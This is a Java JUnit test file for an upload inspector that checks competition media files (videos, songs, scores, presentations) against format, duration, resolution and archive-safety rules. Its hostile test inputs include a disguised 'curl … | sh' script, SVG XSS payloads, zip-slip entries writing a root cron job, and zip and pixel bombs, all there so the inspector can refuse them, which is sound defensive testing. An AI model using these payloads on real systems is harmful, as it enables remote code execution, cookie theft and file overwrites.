package cn.zhengji.media;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;

import cn.zhengji.campaign.CategoryRules.AttachmentSlot;
import cn.zhengji.campaign.CategoryRules.FileKind;
import cn.zhengji.infrastructure.Texts;
import cn.zhengji.support.TestMedia;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.context.support.ResourceBundleMessageSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

/**
 * The hostile corpus of issue 3 and the real files of each category, checked against the
 * Fujian 2024 rules.
 */
class MediaInspectorTest {

	static final AttachmentSlot MICRO_VIDEO = FujianRules.slot("micro-video", "work");

	static final AttachmentSlot SONG = FujianRules.slot("song", "work");

	static final AttachmentSlot SCORE = FujianRules.slot("song", "score");

	static final AttachmentSlot PRESENTATION = FujianRules.slot("application-system", "presentation");

	static final AttachmentSlot MATERIALS = FujianRules.slot("application-system", "materials");

	static final String TRUNCATED = "文件不完整：文件在结尾前中断（可能上传未完成或导出未结束），请重新导出完整文件后上传";

	final MediaInspector inspector = inspector();

	@TempDir
	Path directory;

	static MediaInspector inspector() {
		return new MediaInspector(texts());
	}

	static Texts texts() {
		ResourceBundleMessageSource messages = new ResourceBundleMessageSource();
		messages.setBasenames("messages", "messages-media");
		messages.setDefaultEncoding("UTF-8");
		messages.setFallbackToSystemLocale(false);
		return new Texts(messages);
	}

	@Test
	void portrait1080pVideoOf40SecondsPassesEveryRuleOfTheMicroVideo() {
		Inspection inspection = inspector.inspect(TestMedia.mp4(1080, 1920, 40, 5), MICRO_VIDEO);

		assertThat(inspection.detectedKind()).isEqualTo(FileKind.MP4);
		assertThat(inspection.contentType()).isEqualTo("video/mp4");
		assertThat(inspection.facts()).isEqualTo(new MediaFacts("mp4", 40.0, 1080, 1920, "H.264", "AAC", 128, 44100));
		assertThat(inspection.blocksSubmission()).isFalse();
		assertThat(inspection.findings()).extracting(Finding::rule, Finding::verdict, Finding::message)
			.containsExactly(tuple("format", Verdict.PASSED, "文件格式 MP4视频，符合要求"),
					tuple("file.size", Verdict.PASSED, inspection.findings().get(1).message()),
					tuple("duration.min", Verdict.PASSED, "时长 40秒，不短于本项目下限 30秒"),
					tuple("duration.max", Verdict.PASSED, "时长 40秒，未超过本项目上限 5分钟"),
					tuple("video.codec", Verdict.PASSED, "视频编码 H.264，符合要求"),
					tuple("resolution", Verdict.PASSED, "分辨率 1080×1920，符合本项目 1080P（1920×1080 或 1080×1920）要求"),
					tuple("aspect-ratio", Verdict.PASSED, "画面比例 9:16，符合本项目 16:9 或 9:16 要求"),
					tuple("audio.codec", Verdict.PASSED, "音频编码 AAC，符合要求"));
		assertThat(inspection.findings().get(1).message()).matches("文件大小 \\d+MB，未超过本项目上限 1024MB");
	}

	@Test
	void inspectionSurvivesAJsonRoundTripAsTheSubmissionStoresIt() {
		Inspection inspection = inspector.inspect(TestMedia.mp4(1280, 720, 40, 5), MICRO_VIDEO);
		tools.jackson.databind.json.JsonMapper json = tools.jackson.databind.json.JsonMapper.builder().build();

		Inspection read = json.readValue(json.writeValueAsString(inspection), Inspection.class);

		assertThat(read).isEqualTo(inspection);
		assertThat(read.blocksSubmission()).isTrue();
	}

	@Test
	void scriptRenamedMp4IsRefusedAsAScript() {
		Path script = HostileFiles.write(directory, "作品.mp4",
				"#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.UTF_8));

		Inspection inspection = inspector.inspect(script, MICRO_VIDEO);

		assertThat(inspection.detectedKind()).isNull();
		assertThat(inspection.contentType()).isEqualTo("application/octet-stream");
		assertThat(verdictAndMessage(inspection, "format")).isEqualTo(tuple(Verdict.FAILED, "文件实际为脚本文件，本项目只接受MP4视频"));
		assertThat(inspection.blocksSubmission()).isTrue();
	}

	@Test
	void mp4CutInHalfIsIncomplete() {
		Path cut = HostileFiles.firstHalf(TestMedia.mp4(1080, 1920, 40, 5), directory, "cut.mp4");

		Inspection inspection = inspector.inspect(cut, MICRO_VIDEO);

		assertThat(inspection.detectedKind()).isEqualTo(FileKind.MP4);
		assertThat(verdictAndMessage(inspection, "integrity")).isEqualTo(tuple(Verdict.FAILED, TRUNCATED));
		assertThat(inspection.findings()).extracting(Finding::rule).containsExactly("format", "file.size", "integrity");
	}

	@Test
	void fastStartMp4CutShortIsIncompleteToo() throws Exception {
		Path whole = HostileFiles.fastStart(TestMedia.mp4(1080, 1920, 40, 5), directory.resolve("faststart.mp4"));
		assertThat(inspector.inspect(whole, MICRO_VIDEO).blocksSubmission()).isFalse();
		byte[] bytes = Files.readAllBytes(whole);
		Path cut = HostileFiles.write(directory, "cut.mp4", java.util.Arrays.copyOf(bytes, bytes.length * 3 / 4));

		assertThat(verdictAndMessage(inspector.inspect(cut, MICRO_VIDEO), "integrity"))
			.isEqualTo(tuple(Verdict.FAILED, TRUNCATED));
	}

	@Test
	void chunkOffsetsBeyondTheEndMeanIncompleteEvenWhenTheBoxesLookWhole() throws Exception {
		Path whole = HostileFiles.fastStart(TestMedia.mp4(1080, 1920, 40, 5), directory.resolve("faststart.mp4"));
		byte[] bytes = Files.readAllBytes(whole);
		int mdat = new String(bytes, StandardCharsets.ISO_8859_1).indexOf("mdat") - 4;
		// size 0 = "the box runs to the end of the file": the top level is then whole,
		// only the index knows better
		java.nio.ByteBuffer.wrap(bytes).putInt(mdat, 0);
		Path cut = HostileFiles.write(directory, "cut.mp4", java.util.Arrays.copyOf(bytes, bytes.length / 2));

		assertThat(verdictAndMessage(inspector.inspect(cut, MICRO_VIDEO), "integrity"))
			.isEqualTo(tuple(Verdict.FAILED, TRUNCATED));
	}

	@Test
	void videoInAnOldCodecFailsNamingItAndMp3SoundInMp4IsRecognised() {
		Inspection inspection = inspector.inspect(HostileFiles.mpeg4PartTwoWithMp3Sound(), SONG);

		assertThat(inspection.facts().videoCodec()).isEqualTo("MPEG-4 Part 2");
		assertThat(verdictAndMessage(inspection, "video.codec"))
			.isEqualTo(tuple(Verdict.FAILED, "视频编码 MPEG-4 Part 2，本项目只接受 H.264、H.265 编码的视频，请转码后上传"));
		assertThat(verdictAndMessage(inspection, "audio.codec")).isEqualTo(tuple(Verdict.PASSED, "音频编码 MP3，符合要求"));
	}

	@Test
	void pdfIsRecognisedByItsSignature() {
		Path pdf = HostileFiles.write(directory, "说明.docx",
				"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n".getBytes(StandardCharsets.US_ASCII));

		Inspection inspection = inspector.inspect(pdf, MATERIALS);

		assertThat(inspection.detectedKind()).isEqualTo(FileKind.PDF);
		assertThat(inspection.contentType()).isEqualTo("application/pdf");
		assertThat(inspection.blocksSubmission()).isFalse();
	}

	@Test
	void mp3NamedMp4IsRefusedForMicroVideoButAcceptedAsMp3ForTheSong() {
		Path disguised = TestMedia.copy(TestMedia.mp3(40, 128, 44100), directory, "song.mp4");

		Inspection asVideo = inspector.inspect(disguised, MICRO_VIDEO);
		Inspection asSong = inspector.inspect(disguised, SONG);

		assertThat(verdictAndMessage(asVideo, "format")).isEqualTo(tuple(Verdict.FAILED, "文件实际为MP3音频，本项目只接受MP4视频"));
		assertThat(asVideo.contentType()).isEqualTo("audio/mpeg");
		assertThat(asSong.detectedKind()).isEqualTo(FileKind.MP3);
		assertThat(asSong.contentType()).isEqualTo("audio/mpeg");
		assertThat(asSong.facts().audioBitRateKbps()).isEqualTo(128);
		assertThat(asSong.facts().durationSeconds()).isCloseTo(40.0, org.assertj.core.data.Offset.offset(0.1));
		assertThat(asSong.blocksSubmission()).isFalse();
		assertThat(asSong.findings()).extracting(Finding::rule, Finding::verdict, Finding::message)
			.containsExactly(tuple("format", Verdict.PASSED, "文件格式 MP3音频，符合要求"),
					tuple("file.size", Verdict.PASSED, "文件大小 0.6MB，未超过本项目上限 1024MB"),
					tuple("duration.max", Verdict.PASSED, "时长 40秒，未超过本项目上限 6分钟"),
					tuple("audio.codec", Verdict.PASSED, "音频编码 MP3，符合要求"),
					tuple("audio.bitrate", Verdict.PASSED, "音频码率 128kbps，不低于参考值 128kbps"),
					tuple("audio.samplerate", Verdict.PASSED, "音频采样率 44100Hz，不低于参考值 44100Hz"));
	}

	@Test
	void songOfSixMinutesTwelveSecondsIsLeftToTheReviewerBecauseTheLimitIsAdvisory() {
		Inspection inspection = inspector.inspect(TestMedia.mp3(372, 128, 44100), SONG);

		assertThat(verdictAndMessage(inspection, "duration.max"))
			.isEqualTo(tuple(Verdict.NEEDS_REVIEW, "时长 6分12秒，超过本项目上限 6分钟（“一般不超过”，请审核人员确认）"));
		assertThat(inspection.blocksSubmission()).isFalse();
	}

	/**
	 * Issue 10 item 3: "音质清晰" is a judgement. Sound below the configured floor is flagged
	 * for the approver, not refused.
	 */
	@Test
	void mp3BelowTheSoundFloorIsFlaggedForTheApproverNotRefused() {
		Inspection inspection = inspector.inspect(TestMedia.mp3(31, 64, 22050), SONG);

		assertThat(verdictAndMessage(inspection, "audio.bitrate"))
			.isEqualTo(tuple(Verdict.NEEDS_REVIEW, "音频码率 64kbps，低于参考值 128kbps，音质是否清晰请审核人员试听确认"));
		assertThat(verdictAndMessage(inspection, "audio.samplerate"))
			.isEqualTo(tuple(Verdict.NEEDS_REVIEW, "音频采样率 22050Hz，低于参考值 44100Hz，音质是否清晰请审核人员试听确认"));
		assertThat(inspection.blocksSubmission()).isFalse();
	}

	/**
	 * An ordinary phone video carries 64–96 kbps AAC: accepted, with the sound flagged,
	 * while the notice's hard limits (1080P, 16:9/9:16) still hold for the picture.
	 */
	@Test
	void phoneVideoWith64KbpsAacIsAcceptedAndItsSoundFlagged() {
		Inspection inspection = inspector.inspect(TestMedia.mp4(1080, 1920, 40, 5, 64), SONG);

		assertThat(inspection.facts().audioCodec()).isEqualTo("AAC");
		assertThat(inspection.facts().audioBitRateKbps()).isBetween(56, 72);
		assertThat(verdictAndMessage(inspection, "audio.bitrate").toList().getFirst()).isEqualTo(Verdict.NEEDS_REVIEW);
		assertThat(verdictAndMessage(inspection, "audio.bitrate").toList().get(1).toString()).startsWith("音频码率 ")
			.endsWith("kbps，低于参考值 128kbps，音质是否清晰请审核人员试听确认");
		assertThat(verdictAndMessage(inspection, "audio.samplerate"))
			.isEqualTo(tuple(Verdict.PASSED, "音频采样率 44100Hz，不低于参考值 44100Hz"));
		assertThat(verdictAndMessage(inspection, "resolution").toList().getFirst()).isEqualTo(Verdict.PASSED);
		assertThat(inspection.blocksSubmission()).isFalse();

		Inspection landscape720 = inspector.inspect(TestMedia.mp4(1280, 720, 40, 5, 64), SONG);
		assertThat(verdictAndMessage(landscape720, "resolution").toList().getFirst()).isEqualTo(Verdict.FAILED);
		assertThat(landscape720.blocksSubmission()).isTrue();
	}

	@Test
	void microVideoOf29SecondsIsTooShort() {
		Inspection inspection = inspector.inspect(TestMedia.mp4(1920, 1080, 29, 5), MICRO_VIDEO);

		assertThat(verdictAndMessage(inspection, "duration.min"))
			.isEqualTo(tuple(Verdict.FAILED, "时长 29秒，短于本项目下限 30秒"));
		assertThat(verdictAndMessage(inspection, "resolution"))
			.isEqualTo(tuple(Verdict.PASSED, "分辨率 1920×1080，符合本项目 1080P（1920×1080 或 1080×1920）要求"));
		assertThat(inspection.blocksSubmission()).isTrue();
	}

	@Test
	void video720pFailsResolutionButHasTheRightAspectRatio() {
		Inspection inspection = inspector.inspect(TestMedia.mp4(1280, 720, 40, 5), MICRO_VIDEO);

		assertThat(verdictAndMessage(inspection, "resolution"))
			.isEqualTo(tuple(Verdict.FAILED, "分辨率 1280×720，本项目要求 1080P（1920×1080 或 1080×1920）"));
		assertThat(verdictAndMessage(inspection, "aspect-ratio"))
			.isEqualTo(tuple(Verdict.PASSED, "画面比例 16:9，符合本项目 16:9 或 9:16 要求"));
	}

	@Test
	void video4kFailsResolution() {
		Inspection inspection = inspector.inspect(TestMedia.mp4(3840, 2160, 31, 1), MICRO_VIDEO);

		assertThat(verdictAndMessage(inspection, "resolution"))
			.isEqualTo(tuple(Verdict.FAILED, "分辨率 3840×2160，本项目要求 1080P（1920×1080 或 1080×1920）"));
		assertThat(inspection.blocksSubmission()).isTrue();
	}

	@Test
	void squareVideoFailsResolutionAndAspectRatio() {
		Inspection inspection = inspector.inspect(TestMedia.mp4(1080, 1080, 40, 5), MICRO_VIDEO);

		assertThat(verdictAndMessage(inspection, "resolution"))
			.isEqualTo(tuple(Verdict.FAILED, "分辨率 1080×1080，本项目要求 1080P（1920×1080 或 1080×1920）"));
		assertThat(verdictAndMessage(inspection, "aspect-ratio"))
			.isEqualTo(tuple(Verdict.FAILED, "画面比例 1:1，本项目要求 16:9 或 9:16"));
	}

	@Test
	void phoneVideoWithRotationMatrixIsMeasuredAsDisplayed() {
		Inspection inspection = inspector.inspect(HostileFiles.rotatedPhoneVideo(), MICRO_VIDEO);

		assertThat(inspection.facts().width()).isEqualTo(1080);
		assertThat(inspection.facts().height()).isEqualTo(1920);
		assertThat(verdictAndMessage(inspection, "aspect-ratio"))
			.isEqualTo(tuple(Verdict.PASSED, "画面比例 9:16，符合本项目 16:9 或 9:16 要求"));
		assertThat(inspection.blocksSubmission()).isFalse();
	}

	@Test
	void pngClaiming50000By50000PixelsIsRefusedWithoutDecodingIt() {
		Path bomb = HostileFiles.write(directory, "score.png", HostileFiles.pngClaiming(50000, 50000));

		Inspection inspection = inspector.inspect(bomb, SCORE);

		assertThat(inspection.detectedKind()).isEqualTo(FileKind.PNG);
		assertThat(verdictAndMessage(inspection, "image.pixels"))
			.isEqualTo(tuple(Verdict.FAILED, "图片尺寸 50000×50000，超过上限 6400万像素，请缩小后上传"));
	}

	@Test
	void jpegAndPngMadeWithImageIoPassWithTheirSize() {
		Inspection jpeg = inspector.inspect(HostileFiles.image(directory, "score.png", "jpeg", 1200, 1600), SCORE);
		Inspection png = inspector.inspect(HostileFiles.image(directory, "score.jpg", "png", 800, 600), SCORE);

		assertThat(jpeg.detectedKind()).isEqualTo(FileKind.JPG);
		assertThat(jpeg.contentType()).isEqualTo("image/jpeg");
		assertThat(verdictAndMessage(jpeg, "image.pixels"))
			.isEqualTo(tuple(Verdict.PASSED, "图片尺寸 1200×1600，未超过上限 6400万像素"));
		assertThat(png.detectedKind()).isEqualTo(FileKind.PNG);
		assertThat(png.facts()).isEqualTo(new MediaFacts("png", null, 800, 600, null, null, null, null));
		assertThat(png.blocksSubmission()).isFalse();
	}

	@Test
	void svgWithScriptIsRefusedAndNeverServedAsSvg() {
		Path svg = HostileFiles.write(directory, "score.png", """
				<?xml version="1.0"?>
				<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>
				""".getBytes(StandardCharsets.UTF_8));

		Inspection inspection = inspector.inspect(svg, SCORE);

		assertThat(verdictAndMessage(inspection, "format"))
			.isEqualTo(tuple(Verdict.FAILED, "文件实际为SVG矢量图（内含脚本），本项目只接受JPG图片或PNG图片"));
		assertThat(inspection.contentType()).isEqualTo("application/octet-stream");
	}

	@Test
	void svgWithAnEventHandlerCountsAsScripted() {
		Path svg = HostileFiles.write(directory, "score.jpg",
				"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".getBytes(StandardCharsets.UTF_8));

		assertThat(verdictAndMessage(inspector.inspect(svg, SCORE), "format"))
			.isEqualTo(tuple(Verdict.FAILED, "文件实际为SVG矢量图（内含脚本），本项目只接受JPG图片或PNG图片"));
	}

	@Test
	void realPptxPassesWithItsArchiveChecked() {
		Inspection inspection = inspector.inspect(HostileFiles.pptx(directory, "intro.zip"), PRESENTATION);

		assertThat(inspection.detectedKind()).isEqualTo(FileKind.PPTX);
		assertThat(inspection.contentType())
			.isEqualTo("application/vnd.openxmlformats-officedocument.presentationml.presentation");
		assertThat(verdictAndMessage(inspection, "format")).isEqualTo(tuple(Verdict.PASSED, "文件格式 PPTX演示文稿，符合要求"));
		assertThat(verdictAndMessage(inspection, "archive").toArray()[0]).isEqualTo(Verdict.PASSED);
		assertThat(inspection.blocksSubmission()).isFalse();
	}

	@Test
	void oldExcelWorkbookIsToldApartFromAPresentation() {
		Inspection inspection = inspector.inspect(HostileFiles.xls(directory, "intro.ppt"), PRESENTATION);

		assertThat(inspection.detectedKind()).isEqualTo(FileKind.XLS);
		assertThat(verdictAndMessage(inspection, "format"))
			.isEqualTo(tuple(Verdict.FAILED, "文件实际为XLS表格，本项目只接受PPT演示文稿或PPTX演示文稿"));
	}

	@Test
	void pptxZipBombIsStoppedWhileInflating() {
		Path bomb = HostileFiles.pptxWith(directory, "bomb.pptx", "ppt/media/image1.png", new byte[0], 64L << 20);

		Inspection inspection = inspector.inspect(bomb, PRESENTATION);

		assertThat(inspection.detectedKind()).isNull();
		assertThat(verdictAndMessage(inspection, "archive"))
			.isEqualTo(tuple(Verdict.FAILED, "压缩包内“ppt/media/image1.png”解压后膨胀超过 200 倍，疑似压缩炸弹，已拒收"));
	}

	@Test
	void zipSlipPptxIsRefusedByItsEntryName() {
		Path slip = HostileFiles.pptxWith(directory, "slip.pptx", "../../etc/cron.d/evil",
				"* * * * * root sh".getBytes(StandardCharsets.UTF_8), 0);
		Path windows = HostileFiles.pptxWith(directory, "slip2.pptx", "..\\..\\evil.bat", new byte[1], 0);
		Path absolute = HostileFiles.pptxWith(directory, "slip3.pptx", "/tmp/evil", new byte[1], 0);

		assertThat(verdictAndMessage(inspector.inspect(slip, PRESENTATION), "archive"))
			.isEqualTo(tuple(Verdict.FAILED, "压缩包内文件名“../../etc/cron.d/evil”不安全（含上级目录“..”），可能在解压时覆盖其他文件，已拒收"));
		assertThat(verdictAndMessage(inspector.inspect(windows, PRESENTATION), "archive"))
			.isEqualTo(tuple(Verdict.FAILED, "压缩包内文件名“..\\..\\evil.bat”不安全（含反斜杠“\\”），可能在解压时覆盖其他文件，已拒收"));
		assertThat(verdictAndMessage(inspector.inspect(absolute, PRESENTATION), "archive"))
			.isEqualTo(tuple(Verdict.FAILED, "压缩包内文件名“/tmp/evil”不安全（为绝对路径），可能在解压时覆盖其他文件，已拒收"));
	}

	@Test
	void zipWithTooManyEntriesIsRefused() {
		Path many = HostileFiles.zipWithEntries(directory, "many.zip", ZipProbe.MAX_ENTRIES + 1);

		assertThat(verdictAndMessage(inspector.inspect(many, MATERIALS), "archive"))
			.isEqualTo(tuple(Verdict.FAILED, "压缩包内文件超过 10000 个，疑似压缩炸弹，已拒收"));
	}

	@Test
	void unknownBinaryAndEmptyFileAreNamedAsSuch() {
		byte[] noise = new byte[4096];
		new Random(42).nextBytes(noise);
		noise[0] = 0;

		assertThat(verdictAndMessage(inspector.inspect(HostileFiles.write(directory, "a.mp4", noise), MICRO_VIDEO),
				"format"))
			.isEqualTo(tuple(Verdict.FAILED, "无法识别文件格式（不是常见的音视频、图片或文档），本项目只接受MP4视频"));
		assertThat(verdictAndMessage(inspector.inspect(HostileFiles.write(directory, "b.mp4", new byte[0]), SONG),
				"format"))
			.isEqualTo(tuple(Verdict.FAILED, "文件为空（0字节），本项目只接受MP3音频或MP4视频"));
	}

	@Test
	void htmlAndPlainTextAreNamed() {
		Path html = HostileFiles.write(directory, "a.pdf",
				"<!DOCTYPE html><html><body>hi</body></html>".getBytes(StandardCharsets.UTF_8));
		Path text = HostileFiles.write(directory, "b.pdf", "只是一段文字".getBytes(StandardCharsets.UTF_8));

		assertThat(verdictAndMessage(inspector.inspect(html, MATERIALS), "format"))
			.isEqualTo(tuple(Verdict.FAILED, "文件实际为HTML网页，本项目只接受PDF文档、DOC文档、DOCX文档、JPG图片、PNG图片、MP4视频或ZIP压缩包"));
		assertThat(verdictAndMessage(inspector.inspect(text, MATERIALS), "format").toArray()[1].toString())
			.startsWith("文件实际为纯文本文件，");
	}

	@Test
	void fileOverTheSlotLimitFailsWithItsSize() throws Exception {
		AttachmentSlot small = SCORE.with(SCORE.minCount(), 1, null);
		Path big = HostileFiles.image(directory, "big.png", "png", 10, 10);
		try (var channel = java.nio.channels.FileChannel.open(big, java.nio.file.StandardOpenOption.WRITE)) {
			channel.write(java.nio.ByteBuffer.wrap(new byte[1]), 1_600_000);
		}

		assertThat(verdictAndMessage(inspector.inspect(big, small), "file.size"))
			.isEqualTo(tuple(Verdict.FAILED, "文件大小 1.5MB，超过本项目上限 1MB"));
	}

	@Test
	void damagedIndexNeverThrowsAndAlwaysExplains() throws Exception {
		byte[] original = Files.readAllBytes(TestMedia.mp4(160, 90, 2, 5));
		int moov = new String(original, StandardCharsets.ISO_8859_1).lastIndexOf("moov") - 4;
		Random random = new Random(7);
		for (int round = 0; round < 300; round++) {
			byte[] damaged = original.clone();
			for (int flips = 1 + random.nextInt(8); flips > 0; flips--) {
				damaged[moov + random.nextInt(damaged.length - moov)] = (byte) random.nextInt(256);
			}
			Path file = HostileFiles.write(directory, "damaged.mp4", damaged);

			Inspection inspection = inspector.inspect(file, MICRO_VIDEO);

			assertThat(inspection.findings()).as("round %d", round).isNotEmpty();
			assertThat(inspection.findings()).allSatisfy(finding -> assertThat(finding.message()).isNotBlank());
		}
	}

	static org.assertj.core.groups.Tuple verdictAndMessage(Inspection inspection, String rule) {
		List<Finding> matching = inspection.findings().stream().filter(finding -> finding.rule().equals(rule)).toList();
		assertThat(matching).as("findings of rule %s in %s", rule, inspection.findings()).hasSize(1);
		return tuple(matching.getFirst().verdict(), matching.getFirst().message());
	}

}
